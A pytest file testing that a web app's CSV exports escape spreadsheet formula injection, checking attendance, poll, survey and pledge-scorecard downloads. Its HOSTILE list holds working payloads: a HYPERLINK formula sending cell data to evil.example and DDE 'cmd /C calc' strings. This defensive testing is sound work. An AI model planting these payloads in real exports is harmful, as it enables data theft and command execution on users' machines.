"""No CSV that Heard hands out can run a formula in a spreadsheet: one guard, used by every export."""
from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from app.csv_safe import cell, rows_text
from app.extensions import db
from app.pledges import service as pledge_service

from .. import factories

# Each starts a formula in some spreadsheet: the classic four, a tab or carriage return that some
# strip first, a digit straight after (which a guard once let through), spaces before, full-width.
HOSTILE = [
    "=1+HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=HYPERLINK(\"http://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]

APP = Path(__file__).resolve().parents[2] / "app"


def _unsafe(text: str) -> bool:
    return text.lstrip(" ")[:1] in set("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_run_is_written_as_text(value):
    assert cell(value) == "'" + value
    [[written]] = list(csv.reader(io.StringIO(rows_text([[value]]))))
    assert written == "'" + value


def test_ordinary_text_and_real_numbers_are_left_as_they_are():
    assert cell("Amira") == "Amira"
    assert cell("5-a-side football") == "5-a-side football"
    assert cell("") == "" and cell(None) == ""
    # A number in the code is a number in the sheet: -3 cannot run anything and should still sum.
    assert cell(-3) == -3 and cell(2.5) == 2.5 and cell(Decimal("-1.5")) == Decimal("-1.5")
    # The same characters as text are guarded: text may have been typed by anyone.
    assert cell("-3") == "'-3"
    assert rows_text([["a", -3, "=1"]]) == "a,-3,'=1\r\n"


def test_every_csv_in_the_app_is_written_through_the_one_guard():
    writers = []
    for path in APP.rglob("*.py"):
        if path.name == "csv_safe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" and node.attr in ("writer", "DictWriter"):
                writers.append(f"{path.relative_to(APP.parent)}:{node.lineno}")
    assert writers == [], "write CSV with app.csv_safe.csv_response: " + ", ".join(writers)


def _cells(body: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(body)) for value in row]


def test_council_attendance_csv_guards_names(db, sign_in):
    authority = factories.authority()
    officer = factories.staff(authority, "participation_officer")
    group = factories.council_group(authority)
    for name in HOSTILE:
        factories.council_member(group, factories.young_person(authority, display_name=name))
    meeting = factories.council_meeting(group)
    db.session.commit()
    body = sign_in(officer).get(f"/council/manage/meetings/{meeting.id}/attendance.csv").get_data(as_text=True)
    cells = _cells(body)
    for name in HOSTILE:
        assert "'" + name in cells, name
    assert not [c for c in cells if _unsafe(c)]


def test_council_poll_csv_guards_answers(db, sign_in):
    authority = factories.authority()
    officer = factories.staff(authority, "participation_officer")
    group = factories.council_group(authority)
    poll = factories.council_poll(group, state="closed", options=tuple(HOSTILE))
    db.session.commit()
    response = sign_in(officer).get(f"/council/manage/polls/{poll.id}/results.csv")
    assert response.status_code == 200, response.status_code
    cells = _cells(response.get_data(as_text=True))
    for option in HOSTILE:
        assert "'" + option in cells, option
    assert not [c for c in cells if _unsafe(c)]


def test_survey_results_csv_guards_a_formula_with_a_digit_after_it(db, sign_in):
    authority = factories.authority()
    wave = factories.survey_wave(authority, title=HOSTILE[0])
    db.session.commit()
    body = sign_in(factories.staff(authority, "participation_officer")).get(f"/staff/surveys/waves/{wave.id}/results.csv").get_data(as_text=True)
    cells = _cells(body)
    assert "'" + HOSTILE[0] in cells
    assert not [c for c in cells if _unsafe(c)]


def test_pledge_scorecard_csv_guards_promises(db, sign_in):
    authority = factories.authority()
    version = factories.pledge_version(authority, "in_care", themes=1, promises=2)
    rnd = factories.rating_round(authority)
    rnd.name = "  =1+1"  # as if imported: the form would trim it
    manager = factories.staff(authority, "manager")
    person = factories.young_person(authority)
    db.session.commit()
    pledge_service.rate(person, version.promises[0], "kept", key="a-browser")
    pledge_service.close_round_now(rnd)
    db.session.commit()
    body = sign_in(manager).get(f"/pledge/scorecard.csv?round={rnd.id}").get_data(as_text=True)
    cells = _cells(body)
    assert "'  =1+1" in cells, body
    assert not [c for c in cells if _unsafe(c)]
